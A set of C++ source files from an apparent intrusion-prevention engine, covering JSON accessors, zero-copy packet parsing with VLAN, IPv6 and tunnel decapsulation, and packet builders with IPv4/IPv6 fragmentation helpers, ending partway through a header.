  if (errno != 0 || end == num_.c_str() || *end != '\0') {
    throw ParseError("json: number is not a uint64: " + num_);
  }
  return v;
}

std::int64_t JsonValue::as_i64() const {
  require(Kind::number, "number");
  errno = 0;
  char* end = nullptr;
  const std::int64_t v = std::strtoll(num_.c_str(), &end, 10);
  if (errno != 0 || end == num_.c_str() || *end != '\0') {
    throw ParseError("json: number is not an int64: " + num_);
  }
  return v;
}

double JsonValue::as_double() const {
  require(Kind::number, "number");
  return std::strtod(num_.c_str(), nullptr);
}

const JsonValue* JsonValue::find(std::string_view key) const {
  require(Kind::object, "object");
  for (const auto& [k, v] : obj_) {
    if (k == key) return &v;
  }
  return nullptr;
}

const JsonValue& JsonValue::get(std::string_view key) const {
  const JsonValue* v = find(key);
  if (v == nullptr) {
    throw ParseError("json: missing key \"" + std::string(key) + "\"");
  }
  return *v;
}

std::uint64_t JsonValue::u64_or(std::string_view key,
                                std::uint64_t fallback) const {
  const JsonValue* v = find(key);
  return v == nullptr ? fallback : v->as_u64();
}

bool JsonValue::bool_or(std::string_view key, bool fallback) const {
  const JsonValue* v = find(key);
  return v == nullptr ? fallback : v->as_bool();
}

std::string JsonValue::str_or(std::string_view key, std::string fallback) const {
  const JsonValue* v = find(key);
  return v == nullptr ? std::move(fallback) : v->as_string();
}

JsonValue JsonValue::parse(std::string_view text) {
  return JsonParser(text).document();
}

std::string to_hex(const std::uint8_t* data, std::size_t n) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(n * 2);
  for (std::size_t i = 0; i < n; ++i) {
    out.push_back(kDigits[data[i] >> 4]);
    out.push_back(kDigits[data[i] & 0xf]);
  }
  return out;
}

}  // namespace sdt
