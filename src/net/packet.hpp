// PacketView: one-pass, zero-copy decode of a captured frame down to the
// transport payload.
//
// Parsing returns a status enum rather than throwing: malformed frames are
// an expected input class for an IPS (and an attack vector), so the fast
// path must classify them at wire speed, not unwind stacks.
#pragma once

#include <cstdint>
#include <optional>
#include <string>

#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

enum class ParseStatus : std::uint8_t {
  ok,
  truncated_l2,
  not_ipv4,           // non-IPv4 ethertype or IP version != 4
  truncated_l3,       // frame shorter than the IPv4 header claims
  bad_ip_header,      // IHL < 20 or > total length
  fragment,           // valid IPv4 fragment: L4 cannot be parsed here
  unsupported_proto,  // L4 protocol we do not decode (forwarded untouched)
  truncated_l4,       // transport header runs past the datagram
};

const char* to_string(ParseStatus s);

/// True for frames that are structurally broken (truncated at some layer or
/// carrying an impossible IPv4 header) as opposed to merely unhandled
/// (non-IPv4, unknown transport) or valid-but-partial (fragments).
inline bool is_malformed(ParseStatus s) {
  return s == ParseStatus::truncated_l2 || s == ParseStatus::truncated_l3 ||
         s == ParseStatus::bad_ip_header || s == ParseStatus::truncated_l4;
}

/// Decoded layers of a single frame. Views alias the original buffer, which
/// must outlive the PacketView.
struct PacketView {
  ParseStatus status = ParseStatus::ok;

  ByteView frame;        // entire captured frame
  ByteView ip_datagram;  // IPv4 header + payload (as captured, may be a fragment)
  Ipv4View ipv4;         // valid when status >= truncated_l3 stages passed
  bool has_ipv4 = false;

  IpProto proto = IpProto::tcp;  // meaningful only when has_l4
  bool has_tcp = false;
  bool has_udp = false;
  TcpView tcp;
  UdpView udp;
  ByteView l4_payload;  // TCP/UDP payload bytes

  bool ok() const { return status == ParseStatus::ok; }
  /// A fragment parses "successfully" to L3 only.
  bool is_fragment() const { return status == ParseStatus::fragment; }

  /// Decode `frame` captured with link type `lt`.
  static PacketView parse(ByteView frame, LinkType lt);

  /// Decode an IPv4 datagram directly (used after defragmentation).
  static PacketView parse_ipv4(ByteView datagram);
};

/// The result of one PacketView::parse pass, stored as *offsets* into the
/// frame rather than pointers/spans. Offsets stay valid when the owning
/// buffer changes address (moved into a ring slot, reallocated container,
/// shipped to another thread), which spans do not in general; view() then
/// rehydrates a full PacketView with plain subspan arithmetic — no header
/// validation is repeated. This is the parse-once contract: validate at the
/// edge, carry the index, reconstruct views for free downstream.
struct PacketIndex {
  ParseStatus status = ParseStatus::truncated_l2;
  std::uint32_t l3_off = 0;       // IPv4 datagram offset within the frame
  std::uint32_t l3_len = 0;       // datagram length (padding trimmed)
  std::uint32_t l4_off = 0;       // transport header offset within the frame
  std::uint32_t payload_off = 0;  // L4 payload offset within the frame
  std::uint32_t payload_len = 0;
  std::uint16_t ihl = 0;          // IPv4 header length in bytes
  std::uint16_t l4_hdr_len = 0;   // TCP data-offset bytes / 8 for UDP
  IpProto proto = IpProto::tcp;   // meaningful only when has_tcp/has_udp
  bool has_ipv4 = false;
  bool has_tcp = false;
  bool has_udp = false;

  bool ok() const { return status == ParseStatus::ok; }
  bool malformed() const { return is_malformed(status); }

  /// One validating parse of `frame`; equivalent to PacketView::parse but
  /// position-independent.
  static PacketIndex index(ByteView frame, LinkType lt);

  /// Rebuild the PacketView against (a buffer byte-identical to) the frame
  /// this index was computed from. Pure offset arithmetic, no re-validation;
  /// passing a different-length buffer is a caller bug.
  PacketView view(ByteView frame) const;
};

/// An owned packet: capture timestamp (µs since epoch) + frame bytes.
struct Packet {
  std::uint64_t ts_usec = 0;
  Bytes frame;

  Packet() = default;
  Packet(std::uint64_t ts, Bytes f) : ts_usec(ts), frame(std::move(f)) {}
};

}  // namespace sdt::net
