// PacketView: one-pass, zero-copy decode of a captured frame down to the
// transport payload.
//
// Parsing returns a status enum rather than throwing: malformed frames are
// an expected input class for an IPS (and an attack vector), so the fast
// path must classify them at wire speed, not unwind stacks.
//
// The decode is encapsulation-aware: EtherType dispatch for IPv4/IPv6,
// single and double 802.1Q tags, a bounded IPv6 extension-header walk, and
// one level of tunnel decapsulation (VXLAN over UDP, GRE). After decap the
// view describes the INNER packet (ip_datagram, flow addresses, transport),
// while `outer_src`/`outer_dst` keep the outermost IP pair — that pair is
// what lane hashing uses, so a header peek that never decapsulates still
// agrees with the full parse (see runtime::peek_lane).
#pragma once

#include <cstdint>
#include <optional>
#include <string>

#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

enum class ParseStatus : std::uint8_t {
  ok,
  truncated_l2,
  not_ip,             // non-IP ethertype, >2 VLAN tags, or IP version not 4/6
  truncated_l3,       // frame shorter than the IP header claims
  bad_ip_header,      // IHL < 20 or > total length
  bad_ext_header,     // truncated / overlong IPv6 extension-header chain
  bad_decap,          // malformed tunnel header or lying inner frame
  fragment,           // valid IP fragment: L4 cannot be parsed here
  unsupported_proto,  // L4 protocol we do not decode (forwarded untouched)
  truncated_l4,       // transport header runs past the datagram
};

const char* to_string(ParseStatus s);

/// True for frames that are structurally broken (truncated at some layer,
/// carrying an impossible IP header, or lying about a tunnel payload) as
/// opposed to merely unhandled (non-IP, unknown transport) or
/// valid-but-partial (fragments).
inline bool is_malformed(ParseStatus s) {
  return s == ParseStatus::truncated_l2 || s == ParseStatus::truncated_l3 ||
         s == ParseStatus::bad_ip_header || s == ParseStatus::truncated_l4 ||
         s == ParseStatus::bad_ext_header || s == ParseStatus::bad_decap;
}

/// Encapsulation the parser saw in front of the inner IP datagram.
enum class Encap : std::uint8_t {
  none = 0,
  vxlan = 1,
  gre = 2,
};

/// Sentinel for PacketView::frag_nh_off / PacketIndex::frag_nh_off: no
/// next-header byte to patch (IPv4 fragments).
inline constexpr std::uint16_t kNoNhOff = 0xffff;

/// Decoded layers of a single frame. Views alias the original buffer, which
/// must outlive the PacketView.
struct PacketView {
  ParseStatus status = ParseStatus::ok;

  ByteView frame;        // entire captured frame
  ByteView ip_datagram;  // inner IP header + payload (after any decap)
  Ipv4View ipv4;         // valid when has_ipv4 (inner header)
  bool has_ipv4 = false;
  Ipv6View ipv6;         // valid when has_ipv6 (inner header)
  bool has_ipv6 = false;

  /// Outermost IP address pair — equal to the inner pair unless the frame
  /// was decapsulated. Lane hashing keys on this pair (a peek cannot see
  /// through a tunnel; a tunnel cannot split a flow across lanes).
  IpAddr outer_src;
  IpAddr outer_dst;
  ByteView outer_hdr;              // outermost IP header bytes (fixed part)
  std::uint8_t outer_version = 0;  // 4 or 6; 0 = frame has no IP layer

  std::uint8_t vlan_tags = 0;   // 802.1Q tags stripped (0, 1 or 2)
  Encap encap = Encap::none;    // tunnel the inner datagram was lifted from

  IpProto proto = IpProto::tcp;  // meaningful only when has_tcp/has_udp
  bool has_tcp = false;
  bool has_udp = false;
  TcpView tcp;
  UdpView udp;
  ByteView l4_span;     // transport header + payload (checksum coverage)
  ByteView l4_payload;  // TCP/UDP payload bytes

  // Generic fragment description, valid when is_fragment(). v4 fragments
  // fill it from the IPv4 header; v6 from the fragment extension header.
  std::uint32_t frag_id = 0;
  std::uint32_t frag_offset = 0;  // bytes
  bool frag_more = false;
  std::uint8_t frag_proto = 0;    // payload protocol of the whole datagram
  ByteView frag_head;     // unfragmentable part (reassembly header template)
  ByteView frag_payload;  // this fragment's payload bytes
  /// v6 only: offset within frag_head of the next-header byte that pointed
  /// at the fragment header (patched to frag_proto on reassembly).
  std::uint16_t frag_nh_off = kNoNhOff;

  bool ok() const { return status == ParseStatus::ok; }
  /// A fragment parses "successfully" to L3 only.
  bool is_fragment() const { return status == ParseStatus::fragment; }
  bool has_ip() const { return has_ipv4 || has_ipv6; }

  /// Inner flow addresses, version-agnostic (v4 maps through IpAddr::v4).
  IpAddr src_ip() const {
    return has_ipv4 ? IpAddr::v4(ipv4.src()) : ipv6.src();
  }
  IpAddr dst_ip() const {
    return has_ipv4 ? IpAddr::v4(ipv4.dst()) : ipv6.dst();
  }
  /// TTL (v4) or hop limit (v6) of the inner header.
  std::uint8_t ip_ttl() const {
    return has_ipv4 ? ipv4.ttl() : ipv6.hop_limit();
  }

  /// Decode `frame` captured with link type `lt`.
  static PacketView parse(ByteView frame, LinkType lt);

  /// Decode a bare IP datagram of either version (post-defrag re-parse,
  /// raw link type). Dispatches on the version nibble.
  static PacketView parse_l3(ByteView datagram);

  /// Decode an IPv4 datagram directly (used after defragmentation).
  static PacketView parse_ipv4(ByteView datagram);
};

/// The result of one PacketView::parse pass, stored as *offsets* into the
/// frame rather than pointers/spans. Offsets stay valid when the owning
/// buffer changes address (moved into a ring slot, reallocated container,
/// shipped to another thread), which spans do not in general; view() then
/// rehydrates a full PacketView with plain subspan arithmetic — no header
/// validation is repeated. This is the parse-once contract: validate at the
/// edge, carry the index, reconstruct views for free downstream.
struct PacketIndex {
  ParseStatus status = ParseStatus::truncated_l2;
  std::uint32_t l3_off = 0;       // inner IP datagram offset within the frame
  std::uint32_t l3_len = 0;       // datagram length (padding trimmed)
  std::uint32_t l4_off = 0;       // transport header offset within the frame
  std::uint32_t payload_off = 0;  // L4 (or fragment) payload offset
  std::uint32_t payload_len = 0;
  std::uint16_t ihl = 0;          // inner IP header bytes before L4
  std::uint16_t l4_hdr_len = 0;   // TCP data-offset bytes / 8 for UDP
  IpProto proto = IpProto::tcp;   // meaningful only when has_tcp/has_udp
  bool has_ipv4 = false;
  bool has_ipv6 = false;
  bool has_tcp = false;
  bool has_udp = false;

  std::uint8_t vlan_tags = 0;
  Encap encap = Encap::none;
  std::uint8_t outer_version = 0;  // 0 = no outer IP (== inner for no tunnel)
  std::uint32_t outer_l3_off = 0;  // outermost IP header offset

  // Fragment description (valid when status == fragment); the payload span
  // reuses payload_off/payload_len.
  std::uint32_t frag_id = 0;
  std::uint32_t frag_offset = 0;
  bool frag_more = false;
  std::uint8_t frag_proto = 0;
  std::uint16_t frag_head_len = 0;  // frag_head = frame[l3_off, +frag_head_len)
  std::uint16_t frag_nh_off = kNoNhOff;

  bool ok() const { return status == ParseStatus::ok; }
  bool malformed() const { return is_malformed(status); }

  /// One validating parse of `frame`; equivalent to PacketView::parse but
  /// position-independent.
  static PacketIndex index(ByteView frame, LinkType lt);

  /// Rebuild the PacketView against (a buffer byte-identical to) the frame
  /// this index was computed from. Pure offset arithmetic, no re-validation;
  /// passing a different-length buffer is a caller bug.
  PacketView view(ByteView frame) const;
};

/// An owned packet: capture timestamp (µs since epoch) + frame bytes.
///
/// `ticket` is an optional wire-side correlation id: an inline capture
/// front-end (sdt::wire) stamps each submitted frame so the verdict the
/// engine eventually produces can be routed back to the held packet. The
/// default kNoTicket means "nobody is waiting for this packet's verdict";
/// the pipeline then skips every feedback hook, so trace-driven callers
/// pay nothing for the field existing.
struct Packet {
  static constexpr std::uint64_t kNoTicket = 0xffffffffffffffffull;

  std::uint64_t ts_usec = 0;
  std::uint64_t ticket = kNoTicket;
  Bytes frame;

  Packet() = default;
  Packet(std::uint64_t ts, Bytes f) : ts_usec(ts), frame(std::move(f)) {}
};

}  // namespace sdt::net
