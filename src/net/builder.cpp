#include "net/builder.hpp"

#include "net/checksum.hpp"
#include "net/packet.hpp"
#include "util/error.hpp"

namespace sdt::net {

Bytes build_ipv4(const Ipv4Spec& ip, ByteView l4_bytes) {
  if (ip.fragment_offset % 8 != 0) {
    throw InvalidArgument("build_ipv4: fragment offset must be 8-byte aligned");
  }
  const std::size_t total = kIpv4MinHeaderLen + l4_bytes.size();
  if (total > 0xffff) {
    throw InvalidArgument("build_ipv4: datagram exceeds 65535 bytes");
  }

  ByteWriter w(total);
  w.u8(0x45);  // version 4, IHL 5
  w.u8(ip.tos);
  w.u16be(static_cast<std::uint16_t>(total));
  w.u16be(ip.id);
  std::uint16_t ff = static_cast<std::uint16_t>(ip.fragment_offset / 8);
  if (ip.dont_fragment) ff = static_cast<std::uint16_t>(ff | kIpFlagDf);
  if (ip.more_fragments) ff = static_cast<std::uint16_t>(ff | kIpFlagMf);
  w.u16be(ff);
  w.u8(ip.ttl);
  w.u8(ip.protocol);
  w.u16be(0);  // checksum placeholder
  w.u32be(ip.src.value());
  w.u32be(ip.dst.value());

  const std::uint16_t csum = checksum(w.view());
  w.patch_u16be(10, csum);
  w.bytes(l4_bytes);
  return w.take();
}

Bytes build_tcp(Ipv4Addr src, Ipv4Addr dst, const TcpSpec& tcp,
                ByteView payload) {
  if (tcp.options.size() % 4 != 0 || tcp.options.size() > 40) {
    throw InvalidArgument("build_tcp: options must be 4-byte aligned, <= 40");
  }
  const std::size_t header_len = kTcpMinHeaderLen + tcp.options.size();
  ByteWriter w(header_len + payload.size());
  w.u16be(tcp.src_port);
  w.u16be(tcp.dst_port);
  w.u32be(tcp.seq);
  w.u32be(tcp.ack);
  w.u8(static_cast<std::uint8_t>((header_len / 4) << 4));
  w.u8(tcp.flags);
  w.u16be(tcp.window);
  w.u16be(0);  // checksum placeholder
  w.u16be(tcp.urgent_pointer);
  w.bytes(tcp.options);
  w.bytes(payload);

  const std::uint16_t csum = transport_checksum(
      src, dst, static_cast<std::uint8_t>(IpProto::tcp), w.view());
  w.patch_u16be(16, csum);
  return w.take();
}

Bytes build_udp(Ipv4Addr src, Ipv4Addr dst, std::uint16_t src_port,
                std::uint16_t dst_port, ByteView payload) {
  const std::size_t len = kUdpHeaderLen + payload.size();
  if (len > 0xffff) throw InvalidArgument("build_udp: payload too large");
  ByteWriter w(len);
  w.u16be(src_port);
  w.u16be(dst_port);
  w.u16be(static_cast<std::uint16_t>(len));
  w.u16be(0);
  w.bytes(payload);
  std::uint16_t csum = transport_checksum(
      src, dst, static_cast<std::uint8_t>(IpProto::udp), w.view());
  if (csum == 0) csum = 0xffff;  // RFC 768: 0 is transmitted as all-ones
  w.patch_u16be(6, csum);
  return w.take();
}

Bytes build_tcp_packet(const Ipv4Spec& ip, const TcpSpec& tcp,
                       ByteView payload) {
  Ipv4Spec spec = ip;
  spec.protocol = static_cast<std::uint8_t>(IpProto::tcp);
  return build_ipv4(spec, build_tcp(ip.src, ip.dst, tcp, payload));
}

Bytes build_udp_packet(const Ipv4Spec& ip, std::uint16_t src_port,
                       std::uint16_t dst_port, ByteView payload) {
  Ipv4Spec spec = ip;
  spec.protocol = static_cast<std::uint8_t>(IpProto::udp);
  return build_ipv4(spec, build_udp(ip.src, ip.dst, src_port, dst_port, payload));
}

Bytes wrap_ethernet(ByteView ip_datagram) {
  ByteWriter w(kEthernetHeaderLen + ip_datagram.size());
  static constexpr std::uint8_t kDst[6] = {0x02, 0, 0, 0, 0, 0x02};
  static constexpr std::uint8_t kSrc[6] = {0x02, 0, 0, 0, 0, 0x01};
  w.bytes(ByteView(kDst, 6));
  w.bytes(ByteView(kSrc, 6));
  w.u16be(kEtherTypeIpv4);
  w.bytes(ip_datagram);
  return w.take();
}

std::vector<Bytes> fragment_ipv4(ByteView ip_datagram,
                                 std::size_t mtu_payload) {
  PacketView pv = PacketView::parse_ipv4(ip_datagram);
  if (!pv.has_ipv4 || pv.ipv4.is_fragment()) {
    throw InvalidArgument("fragment_ipv4: need a whole, parseable datagram");
  }
  if (mtu_payload < 8) {
    throw InvalidArgument("fragment_ipv4: mtu_payload must be >= 8");
  }

  const Ipv4View& ip = pv.ipv4;
  const ByteView body = pv.ip_datagram.subspan(ip.header_len());
  if (body.size() <= mtu_payload) {
    return {Bytes(ip_datagram.begin(), ip_datagram.end())};
  }

  const std::size_t step = mtu_payload - (mtu_payload % 8);
  std::vector<Bytes> out;
  for (std::size_t off = 0; off < body.size(); off += step) {
    const std::size_t n = std::min(step, body.size() - off);
    Ipv4Spec spec;
    spec.src = ip.src();
    spec.dst = ip.dst();
    spec.protocol = ip.protocol();
    spec.ttl = ip.ttl();
    spec.tos = ip.tos();
    spec.id = ip.id();
    spec.fragment_offset = off;
    spec.more_fragments = off + n < body.size();
    out.push_back(build_ipv4(spec, body.subspan(off, n)));
  }
  return out;
}

}  // namespace sdt::net
