#include "net/builder.hpp"

#include "net/checksum.hpp"
#include "net/packet.hpp"
#include "util/error.hpp"

namespace sdt::net {

Bytes build_ipv4(const Ipv4Spec& ip, ByteView l4_bytes) {
  if (ip.fragment_offset % 8 != 0) {
    throw InvalidArgument("build_ipv4: fragment offset must be 8-byte aligned");
  }
  const std::size_t total = kIpv4MinHeaderLen + l4_bytes.size();
  if (total > 0xffff) {
    throw InvalidArgument("build_ipv4: datagram exceeds 65535 bytes");
  }

  ByteWriter w(total);
  w.u8(0x45);  // version 4, IHL 5
  w.u8(ip.tos);
  w.u16be(static_cast<std::uint16_t>(total));
  w.u16be(ip.id);
  std::uint16_t ff = static_cast<std::uint16_t>(ip.fragment_offset / 8);
  if (ip.dont_fragment) ff = static_cast<std::uint16_t>(ff | kIpFlagDf);
  if (ip.more_fragments) ff = static_cast<std::uint16_t>(ff | kIpFlagMf);
  w.u16be(ff);
  w.u8(ip.ttl);
  w.u8(ip.protocol);
  w.u16be(0);  // checksum placeholder
  w.u32be(ip.src.value());
  w.u32be(ip.dst.value());

  const std::uint16_t csum = checksum(w.view());
  w.patch_u16be(10, csum);
  w.bytes(l4_bytes);
  return w.take();
}

Bytes build_ipv6(const Ipv6Spec& ip, ByteView l4_bytes) {
  const std::size_t payload_len = ip.ext.size() + l4_bytes.size();
  if (payload_len > 0xffff) {
    throw InvalidArgument("build_ipv6: payload exceeds 65535 bytes");
  }
  ByteWriter w(kIpv6HeaderLen + payload_len);
  w.u32be((std::uint32_t{6} << 28) | (std::uint32_t{ip.traffic_class} << 20) |
          (ip.flow_label & 0xfffff));
  w.u16be(static_cast<std::uint16_t>(payload_len));
  w.u8(ip.next_header);
  w.u8(ip.hop_limit);
  std::uint8_t addr[16];
  ip.src.to_bytes(addr);
  w.bytes(ByteView(addr, 16));
  ip.dst.to_bytes(addr);
  w.bytes(ByteView(addr, 16));
  w.bytes(ip.ext);
  w.bytes(l4_bytes);
  return w.take();
}

Bytes build_ipv6_ext(std::uint8_t next_header, std::size_t units8) {
  if (units8 == 0) {
    throw InvalidArgument("build_ipv6_ext: need at least one 8-byte unit");
  }
  Bytes ext(units8 * 8, 0);
  ext[0] = next_header;
  ext[1] = static_cast<std::uint8_t>(units8 - 1);
  return ext;
}

namespace {

/// Transport checksum for either address family: v4-mapped pairs use the
/// IPv4 pseudo-header, anything else the IPv6 one.
std::uint16_t segment_checksum(IpAddr src, IpAddr dst, IpProto proto,
                               ByteView segment) {
  if (src.is_v4() && dst.is_v4()) {
    return transport_checksum(src.to_v4(), dst.to_v4(),
                              static_cast<std::uint8_t>(proto), segment);
  }
  std::uint8_t s[16], d[16];
  src.to_bytes(s);
  dst.to_bytes(d);
  return transport_checksum_v6(ByteView(s, 16), ByteView(d, 16),
                               static_cast<std::uint8_t>(proto), segment);
}

}  // namespace

Bytes build_tcp(IpAddr src, IpAddr dst, const TcpSpec& tcp, ByteView payload) {
  if (tcp.options.size() % 4 != 0 || tcp.options.size() > 40) {
    throw InvalidArgument("build_tcp: options must be 4-byte aligned, <= 40");
  }
  const std::size_t header_len = kTcpMinHeaderLen + tcp.options.size();
  ByteWriter w(header_len + payload.size());
  w.u16be(tcp.src_port);
  w.u16be(tcp.dst_port);
  w.u32be(tcp.seq);
  w.u32be(tcp.ack);
  w.u8(static_cast<std::uint8_t>((header_len / 4) << 4));
  w.u8(tcp.flags);
  w.u16be(tcp.window);
  w.u16be(0);  // checksum placeholder
  w.u16be(tcp.urgent_pointer);
  w.bytes(tcp.options);
  w.bytes(payload);

  w.patch_u16be(16, segment_checksum(src, dst, IpProto::tcp, w.view()));
  return w.take();
}

Bytes build_tcp(Ipv4Addr src, Ipv4Addr dst, const TcpSpec& tcp,
                ByteView payload) {
  return build_tcp(IpAddr::v4(src), IpAddr::v4(dst), tcp, payload);
}

Bytes build_udp(IpAddr src, IpAddr dst, std::uint16_t src_port,
                std::uint16_t dst_port, ByteView payload) {
  const std::size_t len = kUdpHeaderLen + payload.size();
  if (len > 0xffff) throw InvalidArgument("build_udp: payload too large");
  ByteWriter w(len);
  w.u16be(src_port);
  w.u16be(dst_port);
  w.u16be(static_cast<std::uint16_t>(len));
  w.u16be(0);
  w.bytes(payload);
  std::uint16_t csum = segment_checksum(src, dst, IpProto::udp, w.view());
  if (csum == 0) csum = 0xffff;  // RFC 768: 0 is transmitted as all-ones
  w.patch_u16be(6, csum);
  return w.take();
}

Bytes build_udp(Ipv4Addr src, Ipv4Addr dst, std::uint16_t src_port,
                std::uint16_t dst_port, ByteView payload) {
  return build_udp(IpAddr::v4(src), IpAddr::v4(dst), src_port, dst_port,
                   payload);
}

Bytes build_tcp_packet(const Ipv4Spec& ip, const TcpSpec& tcp,
                       ByteView payload) {
  Ipv4Spec spec = ip;
  spec.protocol = static_cast<std::uint8_t>(IpProto::tcp);
  return build_ipv4(spec, build_tcp(ip.src, ip.dst, tcp, payload));
}

Bytes build_udp_packet(const Ipv4Spec& ip, std::uint16_t src_port,
                       std::uint16_t dst_port, ByteView payload) {
  Ipv4Spec spec = ip;
  spec.protocol = static_cast<std::uint8_t>(IpProto::udp);
  return build_ipv4(spec, build_udp(ip.src, ip.dst, src_port, dst_port, payload));
}

namespace {

/// Ipv6Spec whose ext chain (if any) ends in `l4_proto`: the base header
/// points at the chain's first header, the chain's tail at the protocol.
/// (Callers pre-link their ext blobs; this only fills the base field.)
std::uint8_t v6_first_next_header(const Ipv6Spec& ip, IpProto l4_proto) {
  return ip.ext.empty() ? static_cast<std::uint8_t>(l4_proto) : ip.next_header;
}

}  // namespace

Bytes build_tcp_packet(const Ipv6Spec& ip, const TcpSpec& tcp,
                       ByteView payload) {
  Ipv6Spec spec = ip;
  spec.next_header = v6_first_next_header(ip, IpProto::tcp);
  return build_ipv6(spec, build_tcp(ip.src, ip.dst, tcp, payload));
}

Bytes build_udp_packet(const Ipv6Spec& ip, std::uint16_t src_port,
                       std::uint16_t dst_port, ByteView payload) {
  Ipv6Spec spec = ip;
  spec.next_header = v6_first_next_header(ip, IpProto::udp);
  return build_ipv6(spec,
                    build_udp(ip.src, ip.dst, src_port, dst_port, payload));
}

Bytes wrap_ethernet(ByteView ip_datagram) {
  ByteWriter w(kEthernetHeaderLen + ip_datagram.size());
  static constexpr std::uint8_t kDst[6] = {0x02, 0, 0, 0, 0, 0x02};
  static constexpr std::uint8_t kSrc[6] = {0x02, 0, 0, 0, 0, 0x01};
  w.bytes(ByteView(kDst, 6));
  w.bytes(ByteView(kSrc, 6));
  const bool v6 = !ip_datagram.empty() && (ip_datagram[0] >> 4) == 6;
  w.u16be(v6 ? kEtherTypeIpv6 : kEtherTypeIpv4);
  w.bytes(ip_datagram);
  return w.take();
}

Bytes wrap_vlan(ByteView ethernet_frame, std::uint16_t vlan_id,
                std::uint16_t tpid) {
  if (ethernet_frame.size() < kEthernetHeaderLen) {
    throw InvalidArgument("wrap_vlan: need a whole Ethernet header");
  }
  ByteWriter w(ethernet_frame.size() + kVlanTagLen);
  w.bytes(ethernet_frame.first(12));  // dst + src MAC
  w.u16be(tpid);
  w.u16be(static_cast<std::uint16_t>(vlan_id & 0x0fff));  // PCP/DEI zero
  w.bytes(ethernet_frame.subspan(12));  // original EtherType onward
  return w.take();
}

Bytes wrap_vxlan(const Ipv4Spec& outer, std::uint16_t udp_src_port,
                 std::uint32_t vni, ByteView inner_ethernet_frame) {
  ByteWriter vx(kVxlanHeaderLen + inner_ethernet_frame.size());
  vx.u8(kVxlanFlags);  // I flag: VNI valid
  vx.u8(0);
  vx.u16be(0);
  vx.u32be((vni & 0xffffff) << 8);
  vx.bytes(inner_ethernet_frame);
  Ipv4Spec spec = outer;
  spec.protocol = static_cast<std::uint8_t>(IpProto::udp);
  return build_ipv4(
      spec, build_udp(outer.src, outer.dst, udp_src_port, kVxlanPort,
                      vx.view()));
}

Bytes wrap_gre(const Ipv4Spec& outer, ByteView inner_ip_datagram) {
  const bool v6 =
      !inner_ip_datagram.empty() && (inner_ip_datagram[0] >> 4) == 6;
  ByteWriter gre(kGreMinHeaderLen + inner_ip_datagram.size());
  gre.u16be(0);  // no C/K/S, version 0
  gre.u16be(v6 ? kEtherTypeIpv6 : kEtherTypeIpv4);
  gre.bytes(inner_ip_datagram);
  Ipv4Spec spec = outer;
  spec.protocol = static_cast<std::uint8_t>(IpProto::gre);
  return build_ipv4(spec, gre.view());
}

std::vector<Bytes> fragment_ipv4(ByteView ip_datagram,
                                 std::size_t mtu_payload) {
  PacketView pv = PacketView::parse_ipv4(ip_datagram);
  if (!pv.has_ipv4 || pv.ipv4.is_fragment()) {
    throw InvalidArgument("fragment_ipv4: need a whole, parseable datagram");
  }
  if (mtu_payload < 8) {
    throw InvalidArgument("fragment_ipv4: mtu_payload must be >= 8");
  }

  const Ipv4View& ip = pv.ipv4;
  const ByteView body = pv.ip_datagram.subspan(ip.header_len());
  if (body.size() <= mtu_payload) {
    return {Bytes(ip_datagram.begin(), ip_datagram.end())};
  }

  const std::size_t step = mtu_payload - (mtu_payload % 8);
  std::vector<Bytes> out;
  for (std::size_t off = 0; off < body.size(); off += step) {
    const std::size_t n = std::min(step, body.size() - off);
    Ipv4Spec spec;
    spec.src = ip.src();
    spec.dst = ip.dst();
    spec.protocol = ip.protocol();
    spec.ttl = ip.ttl();
    spec.tos = ip.tos();
    spec.id = ip.id();
    spec.fragment_offset = off;
    spec.more_fragments = off + n < body.size();
    out.push_back(build_ipv4(spec, body.subspan(off, n)));
  }
  return out;
}

std::vector<Bytes> fragment_ipv6(ByteView ip_datagram,
                                 std::size_t mtu_payload, std::uint32_t id) {
  if (ip_datagram.size() < kIpv6HeaderLen || (ip_datagram[0] >> 4) != 6) {
    throw InvalidArgument("fragment_ipv6: need a whole IPv6 datagram");
  }
  if (mtu_payload < 8) {
    throw InvalidArgument("fragment_ipv6: mtu_payload must be >= 8");
  }
  // Walk the extension chain; the whole chain stays in the unfragmentable
  // part (simplification: we never fragment mid-chain).
  std::size_t nh_off = 6;
  std::uint8_t nh = ip_datagram[nh_off];
  std::size_t off = kIpv6HeaderLen;
  while (nh == kIpv6ExtHopByHop || nh == kIpv6ExtRouting ||
         nh == kIpv6ExtDestOpts) {
    if (off + 8 > ip_datagram.size()) {
      throw InvalidArgument("fragment_ipv6: truncated extension chain");
    }
    nh_off = off;
    nh = ip_datagram[off];
    off += 8 * (std::size_t{ip_datagram[off + 1]} + 1);
  }
  if (nh == kIpv6ExtFragment) {
    throw InvalidArgument("fragment_ipv6: datagram is already a fragment");
  }
  if (off > ip_datagram.size()) {
    throw InvalidArgument("fragment_ipv6: extension chain overruns datagram");
  }
  const ByteView head = ip_datagram.first(off);
  const ByteView body = ip_datagram.subspan(off);

  const std::size_t step = mtu_payload - (mtu_payload % 8);
  std::vector<Bytes> out;
  std::size_t frag_off = 0;
  do {
    const std::size_t n = std::min(step, body.size() - frag_off);
    const bool more = frag_off + n < body.size();
    ByteWriter w(head.size() + kIpv6FragHeaderLen + n);
    w.bytes(head);
    w.u8(nh);  // fragment header: payload protocol
    w.u8(0);
    w.u16be(static_cast<std::uint16_t>(frag_off | (more ? 1 : 0)));
    w.u32be(id);
    w.bytes(body.subspan(frag_off, n));
    Bytes frag = w.take();
    // Re-link the chain through the fragment header and fix the length.
    frag[nh_off] = kIpv6ExtFragment;
    wr_u16be(frag, 4,
             static_cast<std::uint16_t>(frag.size() - kIpv6HeaderLen));
    out.push_back(std::move(frag));
    frag_off += n;
  } while (frag_off < body.size());
  return out;
}

}  // namespace sdt::net
