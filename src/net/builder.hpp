// Packet construction: well-formed IPv4/TCP/UDP datagrams with correct
// lengths and checksums. The evasion library layers hostile fragmentation
// and overlap on top of these primitives.
#pragma once

#include <cstdint>
#include <vector>

#include "net/addr.hpp"
#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

/// Fields of an IPv4 datagram under construction. Total length and header
/// checksum are computed; everything else is caller-controlled so tests can
/// craft hostile values.
struct Ipv4Spec {
  Ipv4Addr src;
  Ipv4Addr dst;
  std::uint8_t protocol = static_cast<std::uint8_t>(IpProto::tcp);
  std::uint8_t ttl = 64;
  std::uint8_t tos = 0;
  std::uint16_t id = 0;
  bool dont_fragment = false;
